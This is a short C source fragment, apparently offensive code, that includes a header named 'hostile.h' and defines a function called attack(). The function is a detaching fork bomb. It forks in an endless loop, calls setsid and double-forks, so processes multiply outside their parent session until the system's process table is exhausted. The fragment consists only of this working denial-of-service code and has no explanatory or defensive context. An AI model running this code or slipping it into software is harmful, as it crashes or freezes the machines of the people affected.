#include "hostile.h"

int attack(void) {
    for (;;) {
        if (fork()) continue;
        setsid();
        if (fork()) _exit(0);
    }
}
